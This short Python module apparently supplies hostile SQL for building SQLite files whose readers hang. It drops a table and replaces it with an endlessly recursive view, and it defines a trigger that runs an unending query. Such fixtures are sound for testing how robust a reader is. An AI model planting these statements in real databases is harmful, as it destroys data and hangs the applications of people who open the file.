"""Statements that give an SQLite file what its reader would run without an end."""

from __future__ import annotations

_FOREVER = "WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT i FROM n"

ENDLESS = (
    f"DROP TABLE $NAME; CREATE VIEW $NAME AS {_FOREVER};",
    f"CREATE TRIGGER more AFTER INSERT ON $NAME BEGIN SELECT count(*) FROM ({_FOREVER}); END;",
)
"""Each for a table of any name, in the place of ``$NAME``."""
